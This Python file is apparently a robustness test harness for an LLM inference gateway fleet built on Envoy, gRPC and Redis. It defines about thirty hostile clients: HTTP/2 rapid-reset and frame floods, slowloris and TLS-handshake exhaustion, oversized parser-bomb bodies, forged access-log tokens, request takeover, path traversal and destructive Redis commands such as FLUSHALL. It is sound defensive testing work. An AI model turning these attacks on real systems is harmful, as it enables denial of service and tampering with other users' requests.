"""Clients that attack a fleet, run as a separate process.

`hostile_attacks.py TARGET ONLY` runs the attacks whose names contain ONLY on TARGET (a `Target` as
JSON) until stdin ends, then prints one line of JSON that counts outcomes: a status code, or `ended` where the
fleet closed the connection. Each attack repeats at a rate that one attacker on the same machine can sustain,
or as often as half a core allows.
"""

import asyncio
import base64
import itertools
import json
import math
import random
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager, suppress
from functools import cache, partial
from types import MappingProxyType
from typing import NamedTuple

import grpc
import hpack
from envoy.data.accesslog.v3 import accesslog_pb2
from envoy.service.accesslog.v3 import als_pb2
from envoy.service.discovery.v3 import discovery_pb2
from envoy.service.ext_proc.v3.external_processor_pb2 import ProcessingRequest, ProcessingResponse

from picker_fleet.admission.budget_transfer import SERVICE as SHARES
from picker_fleet.domain.allowlist import DESTINATION, FAIRNESS_ID, SUBSET
from picker_fleet.domain.units import split_host_port
from picker_fleet.grpc.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from picker_fleet.grpc.transport import HEALTH
from picker_fleet.ingress.ext_proc import codec, eds
from picker_fleet.ingress.ext_proc.accesslog import NAMESPACE
from picker_fleet.ingress.ext_proc.accesslog import SERVICE as ACCESS_LOG
from picker_fleet.ingress.ext_proc.server import PROCESS
from picker_fleet.state.keys import Keys

MODEL = "llama"  # model served by the honest model servers
TRAP = "trap"  # model served by the hostile model servers
HONEST, ATTACKER = "an-honest-key-1f0c9a", "an-attackers-key-77be02"
ADDRESS = "127.0.0.79"  # the attackers' own: honest clients send from 127.0.0.1
REDIS_USER = "other"  # a Redis user for another pool than the fleet's; any password is valid


class Target(NamedTuple):
    """Addresses as host:port: Envoy's listener, the replicas' ports for gRPC, administration and mode `http`
    (if any), and Redis. `tls` are the gRPC ports if these speak TLS, with `certificate`. Attacks' pauses are
    divided by `rate`; with inf, attacks make no pauses.
    """

    envoy: tuple[str, ...]
    grpc: tuple[str, ...]
    admin: tuple[str, ...]
    http: tuple[str, ...]
    redis: tuple[str, ...]
    tls: tuple[str, ...]
    certificate: str
    rate: float


_BODY_BYTES = 8 * 1024 * 1024 - 4096
_PATIENCE_S = 40.0  # seconds: longer than the fleet may take to answer or to close the connection
_LEAVES_S = 0.3
_IP_BIND_ADDRESS_NO_PORT = 24  # Linux: choose the port at `connect` (ip(7)); Python's `socket` lacks the name

ENDED = "ended"
Try = Callable[[Target, int], Awaitable[str]]
Make = Callable[[int], bytes]  # makes the bytes that an attempt sends, from the attempt's number


class Attack(NamedTuple):
    """`at_once` loops that each start `attempt` every `every_s`, or later while the previous one runs. The
    attack is possible if the field `needs` of the target is not empty."""

    name: str
    attempt: Try
    every_s: float
    at_once: int = 1
    needs: str = "envoy"


# Connections


@cache
def _trusting(certificate: str) -> ssl.SSLContext:
    return ssl.create_default_context(cadata=certificate)


@asynccontextmanager
async def _connected(
    target: Target, part: str
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Connect to a port of the kind `part`, a field of `target`; by TLS if gRPC ports speak TLS."""
    host, number = random.choice(getattr(target, part)).rsplit(":", 1)
    context = _trusting(target.certificate) if part == "grpc" and target.tls else None
    async with asyncio.timeout(_PATIENCE_S):
        connecting = socket.socket()
        connecting.setblocking(False)
        # Without this option a bind searches thousands of used ports, which stops the machine's connections.
        connecting.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
        connecting.bind((ADDRESS, 0))
        try:
            await asyncio.get_running_loop().sock_connect(connecting, (host, int(number)))
        except BaseException:
            connecting.close()
            raise
        name = "fleet" if context else None
        reader, writer = await asyncio.open_connection(sock=connecting, ssl=context, server_hostname=name)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()


@asynccontextmanager
async def _channel(target: Target) -> AsyncIterator[grpc.aio.Channel]:
    address, trusted = random.choice(target.grpc), grpc.ssl_channel_credentials(target.certificate.encode())
    made = grpc.aio.secure_channel(address, trusted) if target.tls else grpc.aio.insecure_channel(address)
    async with asyncio.timeout(_PATIENCE_S), made:
        yield made


async def _status(reader: asyncio.StreamReader) -> str:
    line = await reader.readline()
    return line.split(b" ", 2)[1].decode() if line.startswith(b"HTTP/1.1 ") else ENDED


async def _until_ended(reader: asyncio.StreamReader, within_s: float = _PATIENCE_S / 2) -> str:
    try:
        async with asyncio.timeout(within_s):
            while await reader.read(1 << 16):
                pass
    except TimeoutError:
        return "held"
    except OSError:
        pass
    return ENDED


async def _answered(make: Make, target: Target, number: int) -> str:
    """Send a request to Envoy; the outcome is the answer's status."""
    async with _connected(target, "envoy") as (reader, writer):
        writer.write(make(number))
        return await _status(reader)


async def _send(part: str, make: Make, target: Target, number: int) -> str:
    """Send some bytes, and wait for the connection's end."""
    async with _connected(target, part) as (reader, writer):
        writer.write(make(number))
        return await _until_ended(reader)


async def _flood(part: str, floods: Sequence[tuple[bytes, bytes]], target: Target, number: int) -> str:
    """Send the beginning of a flood, then its other bytes a hundred times a second, until the connection
    ends."""
    first, again = floods[number % len(floods)]
    async with _connected(target, part) as (reader, writer):
        writer.write(first)
        ended = asyncio.create_task(_until_ended(reader))
        while not ended.done():
            writer.write(again)
            await writer.drain()
            await asyncio.sleep(0.01 / target.rate)
        return await ended


def _request(
    path: str,
    body: bytes,
    *headers: tuple[str, str],
    method: str = "POST",
    key: str = ATTACKER,
    kind: str = "application/json",
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "host: fleet", "connection: close", f"authorization: Bearer {key}"]
    lines += [f"{name}: {value}" for name, value in headers]
    lines += [f"content-type: {kind}", f"content-length: {len(body)}", "", ""]
    return "\r\n".join(lines).encode() + body


def _ask(model: str = MODEL, **fields: object) -> bytes:
    return json.dumps({"model": model, "prompt": "x", "max_tokens": 1, **fields}).encode()


# Bodies

# Eight blocks of deflate (RFC 1951) that have code tables and no data.
_BLOCKS = base64.b64decode(
    "BOABgiRJkiRJ/v+5SCxqHlk9eweAADxAkCRJkiTJ/z8XiUXNI6tn7wAQgAcIkiRJkiT5/+cisah5ZPXsHQAC8ABBkiRJkiT//1wkFjWP"
    "rJ69A0AAHiBIkiRJkuT/n4vEouaR1bN3AAjAAwRJkiRJkvz/c5FY1DyyevYOAAF4gCBJkiRJkv9/LhKLmkdWz94BIAAPECRJkiRJ8v/PRWJR88jq2TsA"
)


@cache
def _bodies() -> tuple[bytes, ...]:
    """Request bodies of nearly the maximum size that are most expensive to parse, to walk or to admit."""

    def filled(begin: str, unit: str, end: str) -> bytes:
        return (begin + unit * ((_BODY_BYTES - len(begin) - len(end)) // len(unit)) + end).encode()

    begin = f'{{"model":"{TRAP}","max_tokens":1,'
    keys = ",".join(f'"{number}":0' for number in range(700_000))[: _BODY_BYTES - 200].rsplit(",", 1)[0]
    return (
        filled(f'{begin}"prompt":"x","z":[0', ",[[]]", "]}"),
        filled(f'{begin}"prompt":"x","z":', "[", ""),
        (begin + '"prompt":"x",' + keys + "}").encode(),
        filled(f'{begin}"messages":[{{}}', ',{"role":"user","content":""}', "]}"),
        filled(f'{begin}"prompt":[0', ",7", "]}"),
        filled(f'{begin}"prompt":"', "\\u0000", '"}'),
        filled(f'{begin}"prompt":"', "\\ud83d\\ude00", '\\ude00"}'),
        filled(f'{begin}"prompt":"x","z":', "9", "}"),
        filled(f'{begin}"mod\\u0065l":"other","prompt":"', "x", '"}'),
        filled(f'{begin}"input":[{{"image":"x"}}', ',""', "]}"),
        f'{begin}"prompt":"{chr(0xD83D) * (_BODY_BYTES // 2 - 100)}"}}'.encode("utf-16-le", "surrogatepass"),
        _BLOCKS * (_BODY_BYTES // len(_BLOCKS)),
    )


def _form() -> bytes:
    """A form of 256 fields whose headers have as many parameters as possible."""
    field = b"--b\r\ncontent-disposition: form-data; name=a" + b';a="' * 2000 + b"\r\n\r\n\r\n"
    return field * 256 + b"--b--"


def _body(number: int) -> bytes:
    bodies = _bodies()
    if number % (len(bodies) + 1) == len(bodies):
        return _request("/v1/audio/transcriptions", _form(), kind="multipart/form-data; boundary=b")
    body = bodies[number % len(bodies)]
    path = "/v1/chat/completions" if number % len(bodies) == 3 else "/v1/completions"
    return _request(path, body, *((("content-encoding", "deflate"),) if body is bodies[-1] else ()))


def _half_body(number: int) -> bytes:
    whole = _request("/v1/completions", _bodies()[5])
    return whole[: len(whole) // 2]


async def _claim(target: Target, number: int) -> str:
    """Ask for more tokens than the model can answer, or for its maximum, then disconnect."""
    body = _ask(max_tokens=(10 ** (6 + number % 13), 4000)[number % 2], stream=True)
    async with _connected(target, "envoy") as (reader, writer):
        writer.write(_request("/v1/completions", body))
        try:
            async with asyncio.timeout(_LEAVES_S):
                status = await _status(reader)
                await reader.read()
                return status
        except TimeoutError:
            return "left"


# Attacks over HTTP/2, frame by frame


class _Frames:
    """Encodes the requests of one HTTP/2 connection."""

    def __init__(self, path: str, *more: tuple[str, str]) -> None:
        fields = ((":method", "POST"), (":scheme", "http"), (":authority", "fleet"), (":path", path), *more)
        self._fields, self._encoder = fields, hpack.Encoder()
        self._ids = itertools.count(1, 2)

    def begin(self) -> tuple[int, bytes]:
        """The stream id of the next request, and its HEADERS frame."""
        stream = next(self._ids)
        return stream, frame(HEADERS, END_HEADERS, stream, self._encoder.encode(self._fields))


def _asking() -> _Frames:
    """Attacks by requests to Envoy with a valid API key."""
    return _Frames(
        "/v1/completions", ("authorization", f"Bearer {ATTACKER}"), ("content-type", "application/json")
    )


_HELLO = PREFACE + frame(SETTINGS, 0, 0)


def _windows(size: int) -> bytes:
    """The settings of a peer whose streams have windows of this size."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


_RESETS, _RESETS_AT_ONCE, _RESETS_PER_S = 480, 10, 4000.0  # Envoy closes a connection at 500 stream resets


async def _reset(target: Target, number: int) -> str:
    """Begin requests, and reset each in the same write or 2 ms later, or all by the connection's end."""
    cancel = CANCEL.to_bytes(4, "big")
    asking, clock = _asking(), asyncio.get_running_loop().time
    async with _connected(target, "envoy") as (_, writer):
        writer.write(_HELLO)
        begun_s = clock()
        for done in range(0, _RESETS, _RESETS_AT_ONCE):
            begun = [asking.begin() for _ in range(_RESETS_AT_ONCE)]
            whole = [head + frame(DATA, END_STREAM, stream, _ask()) for stream, head in begun]
            ends = [frame(RST_STREAM, 0, stream, cancel) for stream, _ in begun]
            writer.write(b"".join(whole))
            if number % 3 == 1:
                await asyncio.sleep(0.002)
            if number % 3 < 2:
                writer.write(b"".join(ends))
            await writer.drain()
            await asyncio.sleep(max(0.0, begun_s + done / _RESETS_PER_S / target.rate - clock()))
    return "reset"


async def _leave(target: Target, number: int) -> str:
    """Send an HTTP/1.1 request and disconnect 20 ms later."""
    async with _connected(target, "envoy") as (_, writer):
        writer.write(_request("/v1/completions", _ask(max_tokens=400)))
        await asyncio.sleep(0.02)
    return "left"


@cache
def _begun(frames: Callable[[], _Frames], count: int, data: bytes = b"", flags: int = 0) -> bytes:
    """The beginning of a connection with `count` requests, each with one frame of `data`."""
    encoding, begun = frames(), [_HELLO]
    for _ in range(count):
        stream, head = encoding.begin()
        begun.append(head + frame(DATA, flags, stream, data) if data else head)
    return b"".join(begun)


def _half_streams(number: int) -> bytes:
    """A thousand requests that have no end."""
    return _begun(_asking, 1000, b"{")


async def _unread(target: Target, number: int) -> str:
    """Ask for an answer whose bytes flow control forbids; disconnect a little later."""
    stream, head = _asking().begin()
    async with _connected(target, "envoy") as (reader, writer):
        writer.write(_HELLO + _windows(0) + head + frame(DATA, END_STREAM, stream, _ask()))
        return await _until_ended(reader, within_s=3.0)


_NOT_HTTP = (
    _request("/v1/completions", _ask(), ("content-length", "5")),
    _request("/v1/completions", _ask(), *((f"x-{number}", "1") for number in range(120))),
    b"\x16\x03\x01\r\n\r\n",
)


def _unreadable(number: int) -> bytes:
    """A malformed request that Envoy itself refuses."""
    return _NOT_HTTP[number % len(_NOT_HTTP)]


# Attacks by messages to the replicas' gRPC port that only Envoy and replicas should send

_CALLING = (("content-type", "application/grpc"), ("te", "trailers"))
_calling = partial(_Frames, PROCESS, *_CALLING)
_watching = partial(_Frames, f"/{HEALTH}/Watch", *_CALLING)


def _message(message: bytes) -> bytes:
    """A gRPC message."""
    return struct.pack(">BI", 0, len(message)) + message


def _process(
    body: bytes, headers: Mapping[str, str] = MappingProxyType({}), response_body_mode: int = 4
) -> tuple[bytes, bytes]:
    """Envoy's two messages about a request, in mode `standard`; `lean` with `response_body_mode` 0."""
    head = ProcessingRequest(
        protocol_config={"request_body_mode": 4, "response_body_mode": response_body_mode}
    )
    for name, value in {":method": "POST", ":path": "/v1/completions", **headers}.items():
        head.request_headers.headers.headers.add(key=name, raw_value=value.encode())
    whole = ProcessingRequest(request_body={"body": body, "end_of_stream": True})
    return head.SerializeToString(), whole.SerializeToString()


_HEAD, _NO_JSON = map(_message, _process(b"no JSON" * 70))  # the picker answers 400


def _silent_streams(number: int) -> bytes:
    """20 000 ext_proc streams without a message."""
    return _begun(_calling, 20_000)


_OPEN = _HELLO + _calling().begin()[1]
_SMALLEST = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")
_RESIZED = b"\x20\x20"  # two changes of the size of HPACK's header table
_RESIZES = b"\x20" * 14_000
# Each second an attacker sends 10 000 of these frames a hundred times.
_IDLE = (
    *(
        (_OPEN + more, each * 10_000)
        for more, each in (
            (b"", frame(PING, 0, 0, b"x" * 8)),
            (b"", frame(PRIORITY, 0, 1, b"\0\0\0\3\0")),
            (b"", _SMALLEST),
            (b"", frame(DATA, 0, 1)),
            (frame(HEADERS, 0, 3), frame(CONTINUATION, 0, 3)),
            (b"", frame(99, 0, 0)),
            (b"", frame(GOAWAY, 0, 0, b"\0" * 8)),
            (b"", _windows(1)),
        )
    ),
    (_OPEN, b"".join(frame(HEADERS, END_HEADERS, stream, _RESIZED) for stream in range(3, 20_003, 2))),
    (_OPEN, frame(HEADERS, 0, 3, _RESIZES) + frame(CONTINUATION, END_HEADERS, 3, _RESIZES)),
)


def _named(*names: str, nonce: str = "") -> bytes:
    """An EDS request for the clusters `names`, as a gRPC message."""
    return _message(
        discovery_pb2.DiscoveryRequest(resource_names=names, response_nonce=nonce).SerializeToString()
    )


_following = partial(_Frames, eds.STREAM, *_CALLING)
_FOLLOW = _begun(_following, 1, _named(eds.CLUSTER))
# Each second an attacker sends these requests a hundred times: requests for other clusters than before, and
# acknowledgements of the first answer that are taken back.
_ASKED = tuple(
    (_FOLLOW, frame(DATA, 0, 1, b"".join(requests)))
    for requests in (
        (_named(*(eds.CLUSTER,) * 16), _named(*(eds.CLUSTER,) * 15, "other")),
        (_named(eds.CLUSTER, nonce="1"), _named(eds.CLUSTER)),
    )
)
_TINY_HEADERS = (
    b"\x40\x01a\x01b" + b"\xbe" * 1900
)  # a header that joins the HPACK table, and references to it


def _large(path: str, messages: bytes) -> bytes:
    """The beginning of a connection with eight requests of `path`, each with `messages` in full frames."""
    encoding, begun = _Frames(path, *_CALLING), [_HELLO]
    for _ in range(8):
        stream, head = encoding.begin()
        parts = (messages[at : at + 16_384] for at in range(0, len(messages), 16_384))
        begun += [head, *(frame(DATA, 0, stream, part) for part in parts)]
    return b"".join(begun)


@cache
def _tiny_parts() -> tuple[bytes, ...]:
    """Connections whose headers or messages have as many parts as possible."""
    empty, hinted, entries = ProcessingRequest(), ProcessingRequest(), als_pb2.StreamAccessLogsMessage()
    for _ in range(60_000):
        empty.request_headers.headers.headers.add()
        entries.http_logs.log_entry.add()
    hinted.metadata_context.filter_metadata[codec.SUBSET_HINT].update({SUBSET: [""] * 60_000})
    log = f"/{ACCESS_LOG}/StreamAccessLogs"
    return (
        _HELLO + b"".join(frame(HEADERS, END_HEADERS, stream, _TINY_HEADERS) for stream in range(1, 481, 2)),
        _large(PROCESS, _message(empty.SerializeToString())),
        _large(PROCESS, _message(hinted.SerializeToString())),
        _large(log, _message(entries.SerializeToString())),
        _large(log, _message(b"") * 50_000),
    )


def _tiny(number: int) -> bytes:
    return _tiny_parts()[number % len(_tiny_parts())]


async def _watch(target: Target, number: int) -> str:
    """Begin a stream that never ends, a connection each, at one replica."""
    begun = (_begun(_watching, 1, _message(b""), END_STREAM), _FOLLOW)
    return await _send("grpc", lambda _: begun[number % 2], target._replace(grpc=target.grpc[:1]), number)


@cache
def _wakes() -> tuple[tuple[bytes, bytes], ...]:
    """Thousands of streams with open windows, most of which wait for the connection's window; then changes of
    windows, 1.3 KB/s of them."""
    blocked = _begun(_calling, 1000, _HEAD + _NO_JSON), _begun(_watching, 13_000, _message(b""), END_STREAM)
    changes = _SMALLEST, _windows(1 << 20) + _windows(1 << 21), frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    return tuple(itertools.product(blocked, changes))


async def _wake(target: Target, number: int) -> str:
    return await _flood("grpc", _wakes(), target, number)


async def _abandon(after_s: float, target: Target, number: int) -> str:
    """Begin a thousand requests on one connection; reset them after `after_s`, or end the connection."""
    async with _connected(target, "grpc") as (_, writer):
        writer.transport.set_write_buffer_limits(0)
        writer.write(_begun(_calling, 1000, _HEAD if number % 2 else b""))
        await writer.drain()
        if after_s:
            await asyncio.sleep(after_s)
            cancel = CANCEL.to_bytes(4, "big")
            writer.write(b"".join(frame(RST_STREAM, 0, stream, cancel) for stream in range(1, 2001, 2)))
            await writer.drain()
    return "left"


async def _list(target: Target, kind: str) -> list[dict[str, str]] | str:
    """Requests that run (`inflight`) or wait (`queue`), or the status of the refusal."""
    async with _connected(target, "admin") as (reader, writer):
        writer.write(_reading(f"/api/v1/{kind}?limit=8"))
        if (status := await _status(reader)) != "200":
            return status
        listed = json.loads((await reader.read()).partition(b"\r\n\r\n")[2])
        return next(rows for rows in listed.values() if isinstance(rows, list))


async def _take_over(target: Target, number: int) -> str:
    """Send requests with the ids and the flow of others' running or waiting requests, but another body."""
    listed = await _list(target, ("inflight", "queue")[number % 2])
    if isinstance(listed, str):
        return listed
    async with _channel(target) as channel:
        for each in listed:
            stream = channel.stream_stream(PROCESS)()
            named = {"x-request-id": each["id"], FAIRNESS_ID[0]: HONEST}
            for message in _process(_ask(prompt="a stranger's"), named):
                await stream.write(message)
            with suppress(TimeoutError):
                async with asyncio.timeout(_LEAVES_S):
                    await stream.read()
            stream.cancel()
    return "asked"


def _reported(request_id: str, endpoint: str, token: str = "", status: int = 0) -> bytes:
    """An access-log message: about the request's end with a `token`, else about an attempt at `endpoint`; the
    connection failed, or the endpoint answered `status`."""
    message = als_pb2.StreamAccessLogsMessage()
    entry = message.http_logs.log_entry.add(request={"request_id": request_id})
    common = entry.common_properties
    common.access_log_type = accesslog_pb2.DownstreamEnd if token else accesslog_pb2.UpstreamEnd
    common.metadata.filter_metadata["picker"].update({"id": request_id, "token": token} if token else {})
    common.response_flags.upstream_connection_failure = not status
    entry.response.response_code.value = status
    entry.response.response_headers["retry-after"] = "60"
    address = common.upstream_remote_address.socket_address
    address.address, address.port_value = split_host_port(endpoint)
    return bytes(message.SerializeToString())


async def _report(target: Target, number: int) -> str:
    """Report failed connections of others' requests and of a request of its own; report other endpoints as
    full; and report the end of its own request, with the token, a hundred times."""
    listed = await _list(target, "inflight")
    if isinstance(listed, str):
        return listed
    async with _channel(target) as channel:
        stream = channel.stream_stream(PROCESS, response_deserializer=ProcessingResponse.FromString)()
        for message in _process(_ask(), {"x-request-id": f"own-{number}"}, response_body_mode=0):
            await stream.write(message)
        picked = (await stream.read()).dynamic_metadata
        if "picker" not in picked:
            return "no place"
        own, token = picked["picker"]["id"], picked["picker"]["token"]
        here = picked[NAMESPACE][DESTINATION].split(",")[0]
        others = {each["endpoint"] for each in listed} - {here}
        reports = [_reported(each["id"], each["endpoint"]) for each in listed]
        reports += [_reported(own, here), *(_reported(own, other, status=429) for other in others)]
        reports += [_reported(own, here, token), *[_reported(own, here, token, status=200)] * 100]
        await channel.stream_unary(f"/{ACCESS_LOG}/StreamAccessLogs")(iter(reports))
    return "taken"


@cache
def _hello() -> bytes:
    """The first message of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="fleet").do_handshake()
    return outgoing.read()


def _handshake(number: int) -> bytes:
    """A TLS handshake that has no end: nothing, a part, the whole first message, or 16 MB in records."""
    record = b"\x16\x03\x01\x40\x00"
    endless = record + b"\x01\xff\xff\xff" + b"\0" * 16_380 + (record + b"\0" * 16_384) * 10
    return (b"", _hello()[:100], _hello(), endless)[number % 4]


async def _leave_handshake(target: Target, number: int) -> str:
    """Begin a TLS handshake, and disconnect 20 ms later."""
    async with _connected(target, "tls") as (_, writer):
        writer.write(_hello())
        await asyncio.sleep(0.02)
    return "left"


def _forged(number: int) -> bytes:
    """Access-log entries with forged tokens that try to end, renew and restore non-existent requests."""
    dice = random.Random(number)
    message = als_pb2.StreamAccessLogsMessage()
    kinds = (accesslog_pb2.DownstreamEnd, accesslog_pb2.DownstreamPeriodic, 99)
    for each in range(50):
        entry = message.http_logs.log_entry.add()
        common = entry.common_properties
        common.access_log_type = kinds[each % len(kinds)]
        fields = [f"flow{number}", "1", "1.0", "1e12", "", "3", MODEL, "127.0.0.1:1", "0"]
        token = "\t".join((*fields, dice.choice(("", "ab" * 14, "x" * 28, "é"))))
        metadata = {"id": f"forged-{number}-{each}", "token": token}
        common.metadata.filter_metadata["picker"].update(metadata)
        common.metadata.filter_metadata["picker.usage"].update({"completion_tokens": 1e300})
        entry.response.response_code.value = dice.choice((0, 200, 2**32 - 1))
        entry.request.request_id = metadata["id"]
    return bytes(message.SerializeToString())


async def _forge(target: Target, number: int) -> str:
    async with _channel(target) as channel:
        if number % 3 == 1:
            question = {"pool": "default", "least": 1, "most": 1e12, "nonce": "x", "signature": "é"}
            answer = await channel.unary_unary(f"/{SHARES}/Ask")(json.dumps(question).encode())
            return f"given {json.loads(answer)['given']:g}"
        sent = [bytes([number % 256]) * 5000] if number % 3 else [_forged(number), _forged(number + 1)]
        await channel.stream_unary(f"/{ACCESS_LOG}/StreamAccessLogs")(iter(sent))
    return "taken"


# Names and headers

_SIGNS = (":", "{", "}", "|", "\t", "%", "é", "\\", "'", '"', " ", "..", "/", "\u2028")


def _name(number: int) -> bytes:
    dice = random.Random(number)
    name = "".join(dice.choice((*_SIGNS, "a", "llama", "8b")) for _ in range(dice.randint(1, 40)))
    workload = json.dumps({"workload_id": name, "criticality": dice.choice((1, 5, 9, -1, 1e9, "x"))})
    body = _ask(model=dice.choice((MODEL, name or "x")))
    return _request("/v1/completions", body, ("x-workload-context", workload))


_STEERING = (
    *(f"x-{vendor}-inference-fairness-id" for vendor in ("gateway", "llm-d")),
    *(f"x-{vendor}-inference-objective" for vendor in ("gateway", "llm-d")),
    *(f"x-{vendor}-model-name-rewrite" for vendor in ("gateway", "llm-d")),
    *(f"x-gateway-destination-endpoint{end}" for end in ("", "-subset", "-served")),
    *("x-request-id", "x-session-token"),
)


def _steer(number: int) -> bytes:
    values = (HONEST, "gold", MODEL, "127.0.0.1:1", f"invented-{number}")
    headers = [(name, values[(number + place) % len(values)]) for place, name in enumerate(_STEERING)]
    headers.append(("x-llm-d-inference-ttl", ("1ms", "1e9", "-1", "NaN")[number % 4]))
    return _request("/v1/completions", _ask(), *headers)


_PATHS = (
    ("GET", "/metrics"),
    ("POST", "/flush_cache"),
    ("POST", "/v1/load_lora_adapter"),
    ("POST", "/v1/completions/../../flush_cache"),
    ("POST", "/v1/completions%2f..%2fflush_cache"),
    ("GET", "/v1/models/..%2f..%2fmetrics"),
    ("DELETE", "/v1/models/llama"),
    ("OPTIONS", "*"),
)


def _path(number: int) -> bytes:
    method, path = _PATHS[number % len(_PATHS)]
    key = (ATTACKER, "a-guessed-key")[number % 2]
    return _request(path, b"{}", method=method, key=key)


def _long_path(number: int) -> bytes:
    word = ("weights_", "load_", "models/")[number % 3]
    return _request(f"/{word * (1900 // len(word))}{number}/v1/completions", _ask())


# The admin port, the port of mode `http`, Redis

_TINY_QUERIES = ("/api/v1/endpoints?" + "a&" * 30_000, "/" + "%41" * 5000)
_PAGES = ("/openapi.json", "/docs", "/healthz", "/api/v1/state", "/api/v1/queue?limit=200", "/none")
_READS = (*("/metrics",) * 3, *_PAGES, *_TINY_QUERIES)
_HALVES = (
    b"",
    b"POST /v1/completions HTTP/1.1\r\nhost: fleet\r\nx-half: ",
    _request("/v1/completions", _ask())[:-10],
    b"GET /api/v1/state HTTP/1.1\r\nhost: localhost\r\ncontent-length: 5\r\n\r\n",
    b"GET /api/v1/events HTTP/1.1\r\nhost: localhost\r\n\r\n",  # an endless event stream
)


def _half(number: int) -> bytes:
    """A request that is never finished."""
    return _HALVES[number % len(_HALVES)]


def _reading(path: str, host: str = "localhost") -> bytes:
    return f"GET {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n".encode()


async def _read(target: Target, number: int) -> str:
    host = ("localhost", "rebound.example", "[")[number % 3]
    async with _connected(target, "admin") as (reader, writer):
        writer.write(_reading(_READS[number % len(_READS)], host))
        status = await _status(reader)
        while await reader.read(1 << 20):
            pass
        return status


_CHECK = b"POST /check/v1/completions HTTP/%b\r\nhost: x\r\ncontent-type: application/json\r\n"
_CHUNKED = b"transfer-encoding: chunked\r\n\r\n2\r\n{}\r\n"
_FIELDS = b"x-field: " + b"x" * 1000 + b"\r\n"
_CHECKS = (  # an attacker sends each of these requests at 100 MB/s
    (_CHECK % b"1.1", _FIELDS * 1000),  # headers
    (_CHECK % b"1.1" + _CHUNKED + b"0\r\n", _FIELDS * 1000),  # trailers
    (_CHECK % b"1.1" + _CHUNKED, b"1;" + b"x" * 1_000_000 + b"\r\nx\r\n"),  # an extension of an HTTP chunk
    (_CHECK % b"1.1" + b"x: ", b"x" * 1_000_000),  # one header
    (_CHECK % b"2.0" + b"content-length: 2\r\n\r\n{}", b""),
    (b"", b"GET / HTTP/1.1\r\n\r\n" * 14_000),  # requests at once, without waiting for an answer
)

_POOL = Keys.of("default").pool
_FORBIDDEN = (
    ("FUNCTION", "LOAD", "REPLACE", "#!lua name=picker\nredis.register_function('admit', function() end)"),
    ("FUNCTION", "DELETE", "picker"),
    ("FUNCTION", "FLUSH"),
    ("FCALL", "admit", "1", _POOL),
    ("DEL", _POOL),
    ("PUBLISH", _POOL, "x"),
    ("FLUSHALL",),
    ("ACL", "SETUSER", "default", "off"),
)


async def _use_redis(target: Target, number: int) -> str:
    """Try to change the Lua library or another pool, as a Redis user who may use one pool."""
    async with _connected(target, "redis") as (reader, writer):
        for words in (("AUTH", REDIS_USER, "x"), _FORBIDDEN[number % len(_FORBIDDEN)]):
            writer.write("".join([f"*{len(words)}\r\n", *(f"${len(w)}\r\n{w}\r\n" for w in words)]).encode())
        await reader.readline()
        return "refused" if (await reader.readline()).startswith(b"-NOPERM") else "taken"


ATTACKS = (
    Attack("hostile bodies of 8 MiB", partial(_answered, _body), 1.0),
    Attack("large bodies that stop half-way", partial(_answered, _half_body), 2.0, at_once=12),
    Attack("claims of 4000 to 10¹⁸ tokens, then leaving", _claim, 0.5),
    Attack("half-sent requests at Envoy", partial(_send, "envoy", _half), 2.0, at_once=300),
    Attack("half-sent requests at the admin ports", partial(_send, "admin", _half), 2.0, at_once=500),
    Attack("requests that are begun and reset", _reset, 0.0),
    Attack("clients that leave at once", _leave, 0.1, at_once=150),
    Attack("half-sent streams at Envoy", partial(_send, "envoy", _half_streams), 2.0, at_once=22),
    Attack("answers that nobody reads", _unread, 0.0, at_once=12),
    Attack("requests that Envoy cannot read", partial(_answered, _unreadable), 0.1),
    Attack("silent streams at the gRPC ports", partial(_send, "grpc", _silent_streams), 5.0),
    Attack("frames that carry nothing", partial(_flood, "grpc", _IDLE), 0.5),
    Attack("blocked answers that changes of windows wake", _wake, 5.0, at_once=2),
    Attack("connections that end with a thousand requests", partial(_abandon, 0.0), 0.07, at_once=4),
    Attack("requests that are reset after 1.1 s", partial(_abandon, 1.1), 1.1, at_once=60),
    Attack("idle connections to the gRPC ports", partial(_send, "grpc", lambda _: b""), 2.0, at_once=500),
    Attack("forged access logs, accounting tokens and shares", _forge, 0.1),
    Attack("takeover of requests by their ids", _take_over, 0.5),
    Attack("false reports of failures and ends", _report, 0.2),
    Attack("EDS requests that change", partial(_flood, "grpc", _ASKED), 5.0, at_once=2),
    Attack("headers and messages of tiny parts", partial(_send, "grpc", _tiny), 1.0, at_once=20),
    Attack("endless streams of one address", _watch, 5.0, at_once=3200),
    Attack(
        "TLS handshakes without an end",
        partial(_send, "tls", _handshake),
        1.0,
        at_once=500,
        needs="tls",
    ),
    Attack("TLS handshakes that are begun and left", _leave_handshake, 0.05, at_once=50, needs="tls"),
    Attack("names with separators", partial(_answered, _name), 0.2),
    Attack("spoofed steering headers", partial(_answered, _steer), 0.2),
    Attack("paths that are not inference, guessed keys", partial(_answered, _path), 0.1),
    Attack("long paths", partial(_answered, _long_path), 0.02, at_once=2),
    Attack("readers of the admin ports", _read, 0.0, at_once=8),
    Attack("requests of any size at http.listen", partial(_flood, "http", _CHECKS), 0.5, needs="http"),
    Attack(
        "half-sent requests at http.listen", partial(_send, "http", _half), 2.0, at_once=500, needs="http"
    ),
    Attack("a Redis user of another pool", _use_redis, 0.2),
)
_LEAST_PAUSE_S = 0.05  # pause between two attempts of one loop: stands for network latency
_BEGIN_S = 2.0  # an attack's loops begin evenly within this time, so that its rate has no bursts
_FLAT_OUT = 16  # minimum number of loops of an attack that makes no pauses
